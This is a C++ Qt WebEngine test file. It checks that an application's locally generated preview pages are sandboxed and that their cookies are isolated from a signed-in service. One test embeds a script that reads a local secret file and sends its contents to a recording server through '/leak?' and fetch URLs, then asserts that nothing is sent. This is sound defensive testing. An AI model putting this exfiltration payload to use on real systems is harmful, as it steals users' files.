// Pages the program wrote, in the real engine: they cannot act on their own, and they share
// nothing with the profile the seller signs in with.
#include "temp_app_folder.h"
#include "web/webengine_loader.h"

#include <QApplication>
#include <QDir>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QWebEngineDownloadRequest>
#include <QWebEngineProfile>
#include <QWebEngineScript>
#include <QWebEngineView>
#include <gtest/gtest.h>

using namespace Qt::StringLiterals;

namespace {

// Logs every request as "<target> cookie=<Cookie header>"; a path ending in "set" sets a
// cookie named after it.
class RecordingServer : public QTcpServer {
public:
    RecordingServer() {
        listen(QHostAddress::LocalHost);
        connect(this, &QTcpServer::newConnection, this, [this] {
            while (QTcpSocket* socket = nextPendingConnection())
                connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    const QByteArray head = socket->readAll();
                    const QByteArray target = head.split(' ').value(1);
                    QByteArray cookie;
                    for (const QByteArray& header : head.split('\n'))
                        if (header.toLower().startsWith("cookie:"))
                            cookie = header.mid(7).trimmed();
                    if (target != "/favicon.ico")
                        requests << QString::fromUtf8(target + " cookie=" + cookie);
                    QByteArray extra;
                    if (target.endsWith("set"))
                        extra = "Set-Cookie: " + target.mid(1) + "=1; Path=/\r\n";
                    socket->write("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n" + extra +
                                  "Connection: close\r\n\r\n<title>" + target + "</title>");
                    socket->disconnectFromHost();
                });
        });
    }
    QString address(const QString& path) const {
        return u"http://127.0.0.1:%1%2"_s.arg(serverPort()).arg(path);
    }
    std::string log() const { return requests.join(u'\n').toStdString(); }
    QStringList requests;
};

QList<QWebEngineView*> browserViews() {
    QList<QWebEngineView*> views;
    for (QWidget* window : QApplication::topLevelWidgets())
        if (window->objectName() == u"BrowserWindow" && window->isVisible())
            views << window->findChild<QWebEngineView*>(u"BrowserView"_s);
    return views;
}

// Runs `script` in the program's own world, where scripts run even on a Page.
QVariant evaluate(QWebEnginePage* page, const QString& script) {
    QVariant result;
    bool done = false;
    page->runJavaScript(script, QWebEngineScript::ApplicationWorld, [&](const QVariant& value) {
        result = value;
        done = true;
    });
    EXPECT_TRUE(QTest::qWaitFor([&] { return done; }, 10000));
    return result;
}

class PageProfile : public ::testing::Test {
protected:
    static void SetUpTestSuite() { s_loader = new web::WebEngineLoader; }
    static void TearDownTestSuite() { delete s_loader; }
    void TearDown() override {
        for (QWidget* window : QApplication::topLevelWidgets())
            if (window->objectName() == u"BrowserWindow")
                delete window;
    }

    // Shows `path` as the program shows its pages; the page's view once it has loaded.
    QWebEngineView* show(web::BrowserKind kind, const QString& path) {
        m_browser = s_loader->createBrowser(kind);
        m_browser->navigate(path);
        m_browser->setVisible(true);
        EXPECT_TRUE(m_browser->waitForPage());
        const QList<QWebEngineView*> views = browserViews();
        return views.size() == 1 ? views.front() : nullptr;
    }

    static inline web::WebEngineLoader* s_loader = nullptr;
    RecordingServer m_server;
    TempAppFolder m_folder;
    std::unique_ptr<web::Browser> m_browser;
};

TEST_F(PageProfile, APreviewCannotReadFilesReachTheNetworkOpenWindowsOrDownload) {
    m_folder.writeLines(u"ini/psbin.dat"_s, {u"secret"_s});
    const QString secret = QUrl::fromLocalFile(m_folder.path(u"ini/psbin.dat"_s)).toString();
    // Each line would tell the server, were the script to run.
    const QString script = uR"(<script>
document.title = 'ran';
var x = new XMLHttpRequest(); x.open('GET', '%1');
x.onload = function () { new Image().src = '%2/leak?' + encodeURIComponent(x.responseText); };
x.send();
fetch('%1').then(function (r) { return r.text(); })
    .then(function (t) { fetch('%2/fetch?' + t, {mode: 'no-cors'}); });
var y = new XMLHttpRequest(); y.open('GET', '%2/xhr'); y.send();
window.open('%2/popup');
</script>)"_s.arg(secret, m_server.address(QString()));
    m_folder.writeLines(
        u"template/preview.html"_s,
        {u"<html><head><meta charset=\"Shift_JIS\"><title>プレビュー</title></head>"_s,
         u"<body style=\"margin:0\">"_s,
         u"<a href=\"data:application/zip;base64,UEsFBg==\" download=\"tomoe-probe.zip\" "
         u"style=\"display:block;height:300px\">"
         u"保存</a>"_s,
         script, u"</body></html>"_s});
    QWebEngineView* view = show(web::BrowserKind::Page, m_folder.path(u"template/preview.html"_s));
    ASSERT_NE(view, nullptr);

    QTest::qWait(300);
    EXPECT_EQ(view->title().toStdString(), "プレビュー");
    EXPECT_EQ(m_server.log(), "");
    EXPECT_EQ(browserViews().size(), 1) << "a window opened";

    // Should a script ever run there, the page still cannot read the files beside it; the
    // program's own world takes the page's origin, so it tries for the page.
    EXPECT_EQ(evaluate(view->page(), uR"((function () {
                           var x = new XMLHttpRequest();
                           try { x.open('GET', '%1', false); x.send(); return x.responseText; }
                           catch (e) { return 'refused'; }
                       })())"_s.arg(secret))
                  .toString(),
              u"refused"_s);

    // A download the seller starts is refused as well.
    QList<QWebEngineDownloadRequest*> downloads;
    QObject::connect(view->page()->profile(), &QWebEngineProfile::downloadRequested, view,
                     [&](QWebEngineDownloadRequest* download) { downloads << download; });
    QTest::mouseClick(view->focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    ASSERT_TRUE(QTest::qWaitFor([&] { return !downloads.isEmpty(); }, 10000));
    QTest::qWait(500);
    EXPECT_EQ(downloads.front()->state(), QWebEngineDownloadRequest::DownloadCancelled);
    EXPECT_FALSE(QFile::exists(
        QDir(view->page()->profile()->downloadPath()).filePath(u"tomoe-probe.zip"_s)));
    EXPECT_EQ(m_server.log(), "");
}

TEST_F(PageProfile, PagesAndTheServiceShareNoCookiesAndWebLinksOpenInTheService) {
    // Signed in on the service; then the seller's page is shown.
    show(web::BrowserKind::Service, m_server.address(u"/serviceset"_s));
    delete browserViews().value(0)->window();
    m_folder.writeLines(
        u"page.html"_s,
        {u"<body style=\"margin:0\"><a href=\"%1\" style=\"display:block;height:300px\">出品者の"
         u"ページ</a></body>"_s.arg(m_server.address(u"/seller"_s))});
    QWebEngineView* page = show(web::BrowserKind::Page, m_folder.path(u"page.html"_s));
    ASSERT_NE(page, nullptr);

    QTest::mouseClick(page->focusProxy(), Qt::LeftButton, {}, QPoint(20, 20));
    ASSERT_TRUE(QTest::qWaitFor([&] { return browserViews().size() == 2; }, 10000));
    QWebEngineView* opened =
        browserViews().value(0) == page ? browserViews().value(1) : browserViews().value(0);
    EXPECT_TRUE(QTest::qWaitFor([&] { return m_server.requests.size() == 2; }, 10000));
    EXPECT_EQ(opened->page()->profile(), QWebEngineProfile::defaultProfile());
    EXPECT_EQ(page->url(), QUrl::fromLocalFile(m_folder.path(u"page.html"_s)))
        << "the page stays where it was";

    // A page of the program that goes to the web goes without the service's cookie, and what
    // it is given there never reaches the service.
    m_browser->navigate(m_server.address(u"/pageset"_s));
    EXPECT_TRUE(m_browser->waitForPage());
    show(web::BrowserKind::Service, m_server.address(u"/service"_s));
    EXPECT_EQ(m_server.log(), "/serviceset cookie=\n/seller cookie=serviceset=1\n"
                              "/pageset cookie=\n/service cookie=serviceset=1");
}

} // namespace
